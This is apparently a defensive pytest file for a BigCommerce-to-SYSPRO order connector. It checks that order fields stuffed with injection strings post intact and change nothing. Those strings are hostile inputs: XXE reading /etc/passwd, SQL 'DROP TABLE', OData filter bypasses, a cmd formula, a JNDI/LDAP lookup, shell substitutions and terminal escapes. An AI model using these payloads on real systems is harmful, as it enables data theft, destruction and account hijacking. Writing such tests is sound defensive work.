"""Attacks by order texts: whatever a shopper writes is a text, in the ledger as everywhere else."""

from collections.abc import AsyncIterator, Sequence
from contextlib import asynccontextmanager
from itertools import cycle
from pathlib import Path

import pytest
from temporalio.client import Client

from connectors.syspro.text import fitted
from sandbox.bigcommerce.drafts import FeeDraft, LineDraft, OrderDraft
from sandbox.syspro.records import Customer
from tests.end_to_end.drafts import GOODS, a_person, an_order
from tests.support.world import World
from tests.support.worlds import a_world

MARKUP = (
    "Doe</Name><CreditLimit>999999</CreditLimit><Name>",
    "]]></XmlIn><BusinessObject>GENTJL</BusinessObject>",
    '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>&x;&amp;&#60;',
)
QUERIES = (
    "'; DROP TABLE ArCustomer; --",
    "x' or 1 eq 1 or Name eq 'x",
    "*</Value></Expression><Expression><AndOr>or</AndOr>",
    "x' OR WorkflowType='OrderSync' OR 'a'='a",
    "x&Operator=ADMIN&CompanyId=OTHER#%00%26?y=1",
)
SCREENS = (
    "[red]Doe[/red][link=http://x]",
    "\x1b[31mDoe\x1b[0m\x9b2J\x1b]0;x\x07",
    "Doe\u202egnp.exe\u2066",
    "Do\x00e\x01\x08\x7f\x85",
    "Doe\r\nBcc: x@example.com\u2028\u2029\x0b\x0cEnd",
)
PROGRAMS = ("=cmd|' /C calc'!A0", "{{7*7}} ${jndi:ldap://x} %s %n {0}", "$(id) `id` ; id")
LETTERS = ("Zoë Łącka 🎁 山田", "ﷺ" * 30, "D" + "\u0301" * 500)
LONG = ("Doe " * 2_500,)
TEXTS = {
    "XML, CDATA and entities": MARKUP,
    "SQL, OData, COMFND, Temporal and URL syntax": QUERIES,
    "Rich markup, terminal escapes, bidi overrides, NUL and line ends": SCREENS,
    "formulas, templates and shell syntax": PROGRAMS,
    "letters that Windows-1252 does not have": LETTERS,
    "10,000 characters": LONG,
}
PATIENCE = 120.0
JANE_EMAIL = "jane.doe@example.com"
EMAILS = {
    "by COMFND": {
        "a wildcard": "*",
        "Jane by wildcards": "jane.do?@example.*",
        "XML": f"x</Value></Expression><Expression><AndOr>or</AndOr><Value>{JANE_EMAIL}",
        "Jane in full-width letters": "ｊａｎｅ.doe@example.com",
        "Jane with what cannot be seen": "jane\u200b.doe@example.com",
    },
    "by OData": {
        "a filter that is always true": "o'brien@x.com' or 1 eq 1",
        "a filter around Jane": f"x' or Email eq '{JANE_EMAIL}",
        "Jane and a way out of the text": f"{JANE_EMAIL}' or '1' eq '1",
        "a filter and another option": f"x'&$filter=Email eq '{JANE_EMAIL}'&$top=1",
        "SQL": f"x' UNION SELECT '{JANE_EMAIL}' --%",
        "Jane in full-width letters": "ｊａｎｅ.doe@example.com",
    },
}


@asynccontextmanager
async def a_world_with_jane(client: Client, folder: Path, *, odata: bool) -> AsyncIterator[World]:
    async with a_world(client, folder, odata=odata) as world:
        world.erp.add_customer("JANE", name="Jane Doe", email=JANE_EMAIL)
        yield world


def everywhere(texts: Sequence[str], *, email: str) -> OrderDraft:
    """An order that carries the texts wherever a shopper or a merchant can write one."""
    turn = cycle(texts)
    person = a_person(next(turn), next(turn), email).model_copy(
        update={
            field: next(turn)
            for field in ("company", "street_1", "street_2", "city", "state", "zip", "phone")
        }
    )
    goods = LineDraft(
        sku=GOODS.sku,
        price=GOODS.price,
        quantity=2,
        name=next(turn),
        options=((next(turn), next(turn)),),
    )
    return an_order(
        lines=(goods,),
        billing=person,
        fees=(FeeDraft(name=next(turn), cost=GOODS.price),),
        customer_message=next(turn),
        staff_notes=next(turn),
    )


def buyer(world: World, order: str) -> Customer:
    return world.erp.books.customers[world.invoice(order).customer]


async def test_orders_that_carry_it_post_to_the_cent_with_the_text_and_nothing_else_changes(
    client: Client, tmp_path: Path
) -> None:
    async with a_world_with_jane(client, tmp_path, odata=False) as world:
        drafts = {
            name: everywhere(texts, email=f"person{index}@example.com")
            for index, (name, texts) in enumerate(TEXTS.items())
        }
        accounts = len(world.erp.books.customers)
        orders = {name: world.place(draft) for name, draft in drafts.items()}
        for name, order in orders.items():
            await world.settled(order, within=PATIENCE)
            assert world.invoice(order).value == world.store_total(order), name
            paid = sum(payment.value for payment in world.payments(order))
            assert paid == world.store_total(order), name
            billing, account = drafts[name].billing, buyer(world, order)
            assert account["Email"] == billing.email, name
            assert account["Name"] == fitted(billing.company, 50), name
            assert account["SoldToAddr1"] == fitted(billing.street_1, 40), name
        assert len(world.erp.invoices) == len(TEXTS)
        assert len(world.erp.books.customers) == accounts + len(TEXTS)
        limits = {one["CreditLimit"] for one in world.erp.books.customers.values()}
        assert limits == {world.erp.books.customers[jane(world)]["CreditLimit"]}


def jane(world: World) -> str:
    return world.erp.books.customer_key("JANE")


@pytest.mark.parametrize("way", EMAILS)
async def test_an_email_made_to_match_finds_nobodys_account(
    client: Client, tmp_path: Path, way: str
) -> None:
    async with a_world_with_jane(client, tmp_path, odata=way == "by OData") as world:
        orders = {
            name: world.place(an_order(billing=a_person("Mallory", f"M{index}", email)))
            for index, (name, email) in enumerate(EMAILS[way].items())
        }
        for index, (name, order) in enumerate(orders.items()):
            await world.settled(order, within=PATIENCE)
            assert world.invoice(order).value == world.store_total(order), name
            assert buyer(world, order)["Name"] == f"Mallory M{index}", name
        assert all(invoice.customer != jane(world) for invoice in world.erp.invoices)
        accounts = world.erp.books.customers.items()
        assert [code for code, one in accounts if one["Email"] == JANE_EMAIL] == [jane(world)]
